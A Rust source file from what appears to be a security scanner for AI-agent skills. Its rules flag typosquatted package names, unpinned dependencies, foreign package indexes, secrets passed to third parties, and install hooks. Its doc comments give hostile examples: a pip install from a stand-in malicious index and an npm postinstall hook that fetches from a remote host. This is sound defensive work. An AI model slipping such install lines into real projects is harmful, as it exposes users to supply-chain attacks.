//! Rules about packages that a skill installs.

mod sources;

use savoir_skill::Span;

use crate::{
    Confidence, Severity,
    action::{Action, CodeOrigin},
    context::{Context, FindingDraft},
    fragment::{Role, TextFragment},
    host::{HostReputation, reputation},
    rule::rule,
};

/// Popular packages, which attackers imitate.
const POPULAR_PYPI_PACKAGES: &[&str] = &[
    "requests", "numpy", "pandas", "urllib3", "setuptools", "python-dateutil", "pyyaml",
    "cryptography", "certifi", "boto3", "botocore", "flask", "django", "fastapi", "pydantic",
    "scipy", "matplotlib", "pillow", "scikit-learn", "tensorflow", "torch", "transformers",
    "openai", "anthropic", "langchain", "beautifulsoup4", "selenium", "lxml", "sqlalchemy",
    "psycopg2", "redis", "celery", "pytest", "playwright", "httpx", "aiohttp", "paramiko",
    "colorama", "termcolor", "jellyfish", "pycryptodome", "discord", "telethon", "web3", "tqdm",
    "click", "rich", "typer", "jinja2", "markdown", "openpyxl", "python-docx", "python-pptx",
    "pypdf", "pdfplumber", "reportlab", "streamlit", "gradio", "uvicorn", "gunicorn", "websockets",
    "protobuf", "grpcio", "tokenizers", "huggingface-hub", "opencv-python",
];
const POPULAR_NPM_PACKAGES: &[&str] = &[
    "react", "react-dom", "lodash", "express", "axios", "chalk", "commander", "typescript",
    "webpack", "eslint", "prettier", "puppeteer", "playwright", "dotenv", "mongoose", "moment",
    "uuid", "cross-env", "node-fetch", "discord.js", "ethers", "web3", "electron", "nodemon",
    "rimraf", "socket.io", "jsonwebtoken", "bcrypt", "next", "tailwindcss", "postcss", "esbuild",
    "rollup", "vite", "vitest", "jest", "mocha", "zod", "cheerio", "openai", "pptxgenjs", "sharp",
    "docx", "fs-extra", "yargs", "inquirer", "semver", "debug", "glob", "minimist",
];

/// Real packages with names similar to those above.
const SIMILAR_REAL_PACKAGES: &[&str] = &[
    "request", "preact", "axioss", "pytest", "pillow", "rich", "chalk", "click", "redis", "jest",
    "next", "vite", "vitest", "glob", "zod", "docx", "torch", "flask", "quart", "click", "clique",
    "requests2", "nest", "test", "text", "mocha", "debug", "rest", "web3", "web", "uuid", "uuid6",
    "httpx", "http", "https", "lodash-es", "bcryptjs", "bcrypt", "reacts", "types", "typer",
    "tqdm", "pypdf2", "pypdf3", "pypdf", "psycopg", "psycopg2-binary", "pyaml", "scapy", "spacy",
    "pandas-ta", "polars", "markdown2", "markdownx", "sharp", "yarg", "yargs", "postcss",
    "expressjs", "expres", "semver", "glob2", "globs", "jinja", "dash", "svelte", "discord.py",
    "langchain-core", "openapi", "openal", "gradio", "grpc", "ether", "ethers", "web3js",
    "moments",
];

rule! {
    /// The name of a package is similar to that of a well-known one.
    ///
    /// ## Why
    ///
    /// Attackers publish packages whose names differ from popular ones by one letter.
    ///
    /// ## Fix
    ///
    /// Check the name; if it is right, pin its version with a hash.
    ///
    /// ## Bad
    ///
    /// ````text file=requirements.txt
    /// reqeusts==2.31.0
    /// ````
    ///
    /// ## Good
    ///
    /// ````text file=requirements.txt
    /// requests==2.31.0
    /// ````
    TYPOSQUAT = "typosquat", High, run typosquat
}

fn typosquat(context: &mut Context<'_>) {
    let judge = |manager: &str, package: &str| {
        let name = package_name(package).to_lowercase();
        let known = if manager == "npm" { POPULAR_NPM_PACKAGES } else { POPULAR_PYPI_PACKAGES };
        let meant = imitated_package(&name, known)?;
        let message = format!("`{name}` is nearly `{meant}`");
        Some(FindingDraft::new(Severity::High, Confidence::Medium, message))
    };
    context.for_each_action(&TYPOSQUAT, |_, action, _| match action {
        Action::InstallsPackage { manager, package } => judge(manager, package),
        _ => None,
    });
    context.for_each_fragment(&TYPOSQUAT, |fragment| {
        let listed = listed_packages(fragment).into_iter();
        listed
            .filter_map(|(manager, package, span)| Some((span, judge(manager, &package)?)))
            .collect()
    });
}

/// Returns the popular package that a name imitates.
fn imitated_package<'k>(name: &str, known: &[&'k str]) -> Option<&'k str> {
    let plain = name.replace('_', "-");
    if name.len() < 5
        || name.contains(['/', '$', '{'])
        || known.contains(&plain.as_str())
        || SIMILAR_REAL_PACKAGES.contains(&name)
    {
        return None;
    }
    if let Some(meant) = imitated_part(&plain, known) {
        return Some(meant);
    }
    known.iter().copied().find(|popular| {
        let near = strsim::osa_distance(name, popular) == 1 && popular.len() >= 5;
        let confusable = name.replace('1', "l").replace('0', "o") == **popular;
        near || confusable
    })
}

/// Common parts of package names that are not packages themselves.
const COMMON_PARTS: [&str; 16] = [
    "settings", "toolbelt", "multipart", "toolkit", "validator", "plugins", "loader", "parser",
    "extensions", "contrib", "helpers", "middleware", "templates", "adapter", "dateutil", "dotenv",
];

/// Returns what a part of a name imitates: `reqeusts-toolbelt`, `pydantic-setttings`. Only letters that
/// are swapped, doubled or left out count; an ending that is added makes another word.
fn imitated_part<'k>(name: &str, known: &[&'k str]) -> Option<&'k str> {
    const MIN_PART_BYTES: usize = 7;
    let imitates = |part: &str, word: &str| {
        word.len() >= MIN_PART_BYTES
            && part != word
            && !part.starts_with(word)
            && !word.starts_with(part)
            && part.bytes().next() == word.bytes().next()
            && part.len().abs_diff(word.len()) < 2
            && has_same_letters(part, word)
            && strsim::osa_distance(part, word) == 1
    };
    let is_real = |part: &&str| known.contains(part) || SIMILAR_REAL_PACKAGES.contains(part);
    let parts =
        name.split('-').filter(|part| name.contains('-') && part.len() + 1 >= MIN_PART_BYTES);
    parts.filter(|part| !is_real(part)).find_map(|part| {
        let words = known.iter().copied().chain(COMMON_PARTS);
        words.into_iter().find(|word| imitates(part, word))
    })
}

/// Whether two words differ in the order or the number of their letters, and not in the letters.
fn has_same_letters(one: &str, other: &str) -> bool {
    one.chars().all(|c| other.contains(c)) && other.chars().all(|c| one.contains(c))
}

/// Returns the name of a package without its version and extras.
fn package_name(package: &str) -> &str {
    let scoped = package.strip_prefix('@').map_or(0, |_| 1);
    let end = package[scoped..]
        .find(['=', '<', '>', '~', '!', '[', ';', '@', ' '])
        .map_or(package.len(), |end| end + scoped);
    package[..end].trim()
}

/// Returns the packages that a file lists.
fn listed_packages(fragment: &TextFragment<'_>) -> Vec<(&'static str, String, Span)> {
    if fragment.depth > 0 && fragment.hidden_in.is_none() {
        return Vec::new();
    }
    let name = fragment.path.rsplit(['/', '!']).next().unwrap_or_default();
    if name.starts_with("requirements") && crate::collect::extension(name) == "txt" {
        let mut at = 0;
        let mut found = Vec::new();
        for line in fragment.text.split_inclusive('\n') {
            let package = line.split('#').next().unwrap_or_default().trim();
            if !package.is_empty() && !package.starts_with('-') {
                found.push(("pip", package.to_owned(), Span::new(at, at + line.trim_end().len())));
            }
            at += line.len();
        }
        return found;
    }
    if name != "package.json" {
        return Vec::new();
    }
    let json: serde_json::Value = serde_json::from_str(&fragment.text).unwrap_or_default();
    let mut found = Vec::new();
    for field in ["dependencies", "devDependencies", "optionalDependencies"] {
        for (package, version) in
            json.get(field).and_then(serde_json::Value::as_object).into_iter().flatten()
        {
            let at = fragment.text.find(&format!("\"{package}\"")).unwrap_or(0);
            let version = version.as_str().unwrap_or_default();
            found.push((
                "npm",
                format!("{package}@{version}"),
                Span::new(at, at + package.len() + 2),
            ));
        }
    }
    found
}

rule! {
    /// A dependency has no version.
    ///
    /// ## Why
    ///
    /// A later install may fetch a different version than the one that was reviewed.
    ///
    /// ## Fix
    ///
    /// Write the version: `requests==2.31.0`.
    ///
    /// ## Bad
    ///
    /// ````text file=requirements.txt
    /// requests
    /// ````
    ///
    /// ## Good
    ///
    /// ````text file=requirements.txt
    /// requests==2.31.0
    /// ````
    UNPINNED_DEPENDENCY = "unpinned-dependency", Low, run unpinned_dependency
}

fn unpinned_dependency(context: &mut Context<'_>) {
    context.for_each_fragment(&UNPINNED_DEPENDENCY, |fragment| {
        let listed = listed_packages(fragment).into_iter();
        listed
            .filter(|(manager, package, _)| match *manager {
                "pip" => !package.contains("==") && !package.contains(" @ "),
                _ => {
                    package.ends_with("@*")
                        || package.ends_with("@latest")
                        || package.ends_with('@')
                }
            })
            .map(|(_, package, span)| {
                let message = format!("`{}` has no version", package_name(&package));
                (span, FindingDraft::new(Severity::Low, Confidence::High, message))
            })
            .collect()
    });
    context.for_each_action(&UNPINNED_DEPENDENCY, |fragment, action, _| {
        let Action::InstallsPackage { package, .. } = action else { return None };
        let remote = package.starts_with("git+") || package.starts_with("http");
        (remote && fragment.role == Role::Script).then(|| {
            FindingDraft::new(
                Severity::Medium,
                Confidence::High,
                format!("`{package}` is installed from wherever it is today"),
            )
        })
    });
}

rule! {
    /// Packages are installed from an index other than the default one.
    ///
    /// ## Why
    ///
    /// The owner of the index controls what every package in it does.
    ///
    /// ## Fix
    ///
    /// Use the default index of the language.
    ///
    /// ## Bad
    ///
    /// ````bash file=scripts/setup.sh
    /// pip install --extra-index-url http://pkgs.evil.top/simple helper
    /// ````
    ///
    /// ## Good
    ///
    /// ````bash file=scripts/setup.sh
    /// pip install --index-url https://download.pytorch.org/whl/cpu torch
    /// ````
    FOREIGN_INDEX = "foreign-index", High, run foreign_index
}

fn foreign_index(context: &mut Context<'_>) {
    let frontmatter = sources::lowercase_frontmatter(context);
    context.for_each_action(&FOREIGN_INDEX, |_, action, _| {
        let Action::UsesPackageIndex(url) = action else { return None };
        if sources::is_default_source(url) || sources::is_topic_host(url, &frontmatter) {
            return None;
        }
        let severity = match reputation(url) {
            HostReputation::Local | HostReputation::KnownInstaller => return None,
            HostReputation::Suspicious | HostReputation::OwnDomain => Severity::High,
            HostReputation::Unknown => Severity::Medium,
        };
        Some(FindingDraft::new(severity, Confidence::High, format!("packages come from {url}")))
    });
    context.for_each_fragment(&FOREIGN_INDEX, |fragment| {
        sources::find_foreign_sources(fragment, &frontmatter)
    });
    context.for_each_fragment(&FOREIGN_INDEX, secrets_passed_to_third_parties);
}

/// Finds secrets that are passed to third-party programs: CI actions and MCP servers.
fn secrets_passed_to_third_parties(fragment: &TextFragment<'_>) -> Vec<(Span, FindingDraft)> {
    let text: &str = &fragment.text;
    if fragment.depth > 0 {
        return Vec::new();
    }
    let mut found = Vec::new();
    if let Some(at) = text.find("toJSON(secrets)").or_else(|| text.find("toJson(secrets)")) {
        let message = "a CI workflow passes all its secrets to a third-party action";
        found.push((
            Span::new(at, at + 15),
            FindingDraft::new(Severity::High, Confidence::High, message),
        ));
    }
    if text.contains("privileged: true") && (text.contains("- /:/") || text.contains("pid: host")) {
        let at = text.find("privileged: true").unwrap_or(0);
        let message = "a container gets the whole machine";
        found.push((
            Span::new(at, at + 16),
            FindingDraft::new(Severity::High, Confidence::High, message),
        ));
    }
    if text.contains("pull_request_target") && text.contains("permissions: write-all") {
        let at = text.find("pull_request_target").unwrap_or(0);
        let message = "a build runs the code of strangers with all rights";
        found.push((
            Span::new(at, at + 19),
            FindingDraft::new(Severity::High, Confidence::High, message),
        ));
    }
    for (at, _) in text.match_indices("\"env\"").filter(|_| text.contains("mcpServers")) {
        let end = text[at..].find('}').map_or(text.len(), |end| at + end);
        let parts = text[at..end].split(|c: char| !c.is_ascii_alphanumeric() && c != '_');
        let services: std::collections::BTreeSet<&str> =
            parts.filter_map(crate::service::service_of_secret).collect();
        if services.len() > 2 {
            let message = "one MCP server gets the secrets of several services";
            found.push((
                Span::new(at, end),
                FindingDraft::new(Severity::High, Confidence::Medium, message),
            ));
        }
    }
    found
}

rule! {
    /// Installing the skill's package runs a command.
    ///
    /// ## Why
    ///
    /// `npm install` runs it without asking, before the skill is used.
    ///
    /// ## Fix
    ///
    /// Move the command into a script that the user starts.
    ///
    /// ## Bad
    ///
    /// ````json file=package.json
    /// {"name": "x", "scripts": {"postinstall": "node -e \"fetch('https://x.example.net/a')\""}}
    /// ````
    ///
    /// ## Good
    ///
    /// ````json file=package.json
    /// {"name": "x", "scripts": {"build": "tsc"}}
    /// ````
    INSTALL_SCRIPT = "install-script", High, run install_script
}

fn install_script(context: &mut Context<'_>) {
    // Classes in a `setup.py` that run while the package is installed.
    context.for_each_action(&INSTALL_SCRIPT, |fragment, action, _| {
        let setup =
            fragment.path.ends_with("setup.py") && fragment.file_text().contains("cmdclass");
        let runs = matches!(
            action,
            Action::Connects { .. } | Action::ExecutesCode(_) | Action::ReadsCredentials(_)
        );
        (setup && runs && !fragment.is_shown_in_document).then(|| {
            let message = "installing the package runs code that talks to a host or executes more";
            FindingDraft::new(Severity::High, Confidence::Medium, message)
        })
    });
    let fetches = context.fragments.iter().any(|analyzed| {
        (analyzed.fragment.path.ends_with("package.json")
            || analyzed.fragment.role == Role::Script && !analyzed.fragment.is_shown_in_document)
            && analyzed.actions.located.iter().any(|seen| {
                matches!(
                    seen.action,
                    Action::Connects { .. }
                        | Action::ExecutesCode(CodeOrigin::Fetched(_) | CodeOrigin::Decoded)
                )
            })
    });
    context.for_each_fragment(&INSTALL_SCRIPT, |fragment| {
        if !fragment.path.ends_with("package.json") || fragment.depth > 0 {
            return Vec::new();
        }
        let json: serde_json::Value = serde_json::from_str(&fragment.text).unwrap_or_default();
        let mut found = Vec::new();
        for name in ["preinstall", "install", "postinstall", "prepare"] {
            let Some(command) =
                json.pointer(&format!("/scripts/{name}")).and_then(serde_json::Value::as_str)
            else {
                continue;
            };
            let usual = [
                "husky", "patch-package", "tsc", "npm run build", "prisma generate",
                "playwright install",
            ];
            if usual.iter().any(|usual| command.starts_with(usual))
                || command.contains("playwright install")
            {
                continue;
            }
            let severity = if fetches { Severity::High } else { Severity::Medium };
            let at = fragment.text.find(&format!("\"{name}\"")).unwrap_or(0);
            let draft =
                FindingDraft::new(severity, Confidence::High, format!("`{name}` runs `{command}`"));
            found.push((Span::new(at, at + name.len() + 2), draft));
        }
        found
    });
}
